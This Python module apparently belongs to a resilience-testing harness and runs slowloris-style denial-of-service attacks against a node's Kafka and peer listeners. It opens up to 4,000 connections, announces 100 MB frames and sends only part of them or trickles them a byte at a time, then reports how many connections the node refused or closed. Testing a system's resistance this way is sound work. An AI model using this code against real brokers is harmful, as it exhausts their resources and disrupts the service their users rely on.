"""Frames that are announced and never sent, or sent so that they never end."""

from __future__ import annotations

import socket

from attack.target import Target, settle

#: 100 MB, the largest request that a node takes.
_ANNOUNCED = bytes.fromhex("05f5e100")
_HOLD_S = 8.0
#: A byte to each connection, again and again.
_TRICKLES = 20


def announced_frames(listener: str, count: int, sent: int, target: Target) -> str:
    """`count` connections that send the size of a frame and `sent` bytes of it."""
    opened, refused = _open(listener, count, _ANNOUNCED + bytes(sent), target)
    settle(_HOLD_S)
    return _close(opened, refused, count)


def trickled_frames(listener: str, count: int, target: Target) -> str:
    """The same with one byte at a time."""
    opened, refused = _open(listener, count, _ANNOUNCED[:1], target)
    for byte in [*_ANNOUNCED[1:], *bytes(_TRICKLES)]:
        for peer in opened:
            try:
                peer.send(bytes([byte]))
            except OSError:
                continue
    settle(_HOLD_S)
    return _close(opened, refused, count)


def _open(
    listener: str, count: int, beginning: bytes, target: Target
) -> tuple[list[socket.socket], int]:
    opened = []
    refused = 0
    for _ in range(count):
        try:
            peer = target.connect(listener)
            peer.setblocking(False)
            peer.send(beginning)
        except OSError:
            refused += 1
        else:
            opened.append(peer)
    return opened, refused


def _close(opened: list[socket.socket], refused: int, count: int) -> str:
    ended = 0
    for peer in opened:
        try:
            ended += peer.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            ended += 1
        peer.close()
    return f"{refused} of {count} refused, {ended} closed by the node"


ATTACKS = (
    ("frames announced to kafka", lambda target: announced_frames("kafka", 4000, 1, target)),
    ("frames announced to peer", lambda target: announced_frames("peer", 500, 1, target)),
    ("frames begun, 60 kB", lambda target: announced_frames("kafka", 4000, 60_000, target)),
    ("frames byte by byte", lambda target: trickled_frames("kafka", 4000, target)),
)
